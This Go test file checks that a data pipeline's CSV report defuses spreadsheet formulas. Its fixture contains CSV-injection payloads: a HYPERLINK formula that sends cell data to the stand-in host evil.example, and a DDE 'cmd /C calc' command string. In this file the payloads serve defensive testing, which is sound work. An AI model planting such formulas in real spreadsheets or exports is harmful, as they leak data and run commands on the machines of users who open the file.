package pipeline_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// formulasJob dry-runs items.csv, whose cells a spreadsheet would run as formulas, with a
// userObjectId taken from such a cell.
const formulasJob = `version: 1
name: formulas
target: {kind: onkey, url: "http://127.0.0.1:1", tenant: t, connection: c}
sources:
  - {name: items, file: items.csv, schema: item.schema.json}
entities:
  - name: item
    source: items
    entityType: Item
    action: Create
    userObjectId: row.code
    properties: {code: row.code, amount: row.amount, note: row.note}
`

const formulasSchema = `{"type": "object", "required": ["code"], "properties": {"code": {"type": "string"},
  "amount": {"type": "number"}, "note": {"type": "string"}, "@id": {"type": "string"}}}`

// formulasCSV has a valid row, two invalid ones and another valid one. The column "@id" is
// declared by the schema; "=extra" is not.
const formulasCSV = "code,amount,note,@id,=extra\n" +
	`"=HYPERLINK(""http://evil.example/?""&A1,""click"")",-12.5,ok,@1,x` + "\n" +
	"@SUM(A1),x,-- see note,-,\n" +
	"+cmd|' /C calc'!A0,1 234,\"\tTAB\",=1,\n" +
	"-5,-1e3,=2+3,,\n"

// TestReportCSVNeutralisesFormulas checks that report.csv shows every cell a spreadsheet would
// run as text (a single quote in front), leaves numbers such as -5 as they are, and that
// report.jsonl keeps the values exact.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	out := dryRun(t, map[string]string{"job.yaml": formulasJob, "item.schema.json": formulasSchema, "items.csv": formulasCSV})

	f, err := os.Open(filepath.Join(out.RunDir, "report.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[0]+" "+r[1]+": "+r[8])
	}
	want := []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"click") valid: `,
		`'@SUM(A1) invalid: [type] items.csv:3:amount: "x" is not a number (decimal separator ".")`,
		`'+cmd|' /C calc'!A0 invalid: [type] items.csv:4:amount: "1 234" is not a number (decimal separator ".")`,
		`-5 valid: `,
	}
	if !slices.Equal(got, want) {
		t.Errorf("report.csv (userObjectId status: errors):\n got  %s\n want %s", strings.Join(got, "\n      "), strings.Join(want, "\n      "))
	}

	jsonl := reportLines(t, out.RunDir)
	wantJSONL := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click") valid`,
		`@SUM(A1) invalid: items.csv:3:amount: "x" is not a number (decimal separator ".")`,
		`+cmd|' /C calc'!A0 invalid: items.csv:4:amount: "1 234" is not a number (decimal separator ".")`,
		`-5 valid`,
	}
	if !slices.Equal(jsonl, wantJSONL) {
		t.Errorf("report.jsonl must keep values exact:\n got  %s\n want %s", strings.Join(jsonl, "\n      "), strings.Join(wantJSONL, "\n      "))
	}
}
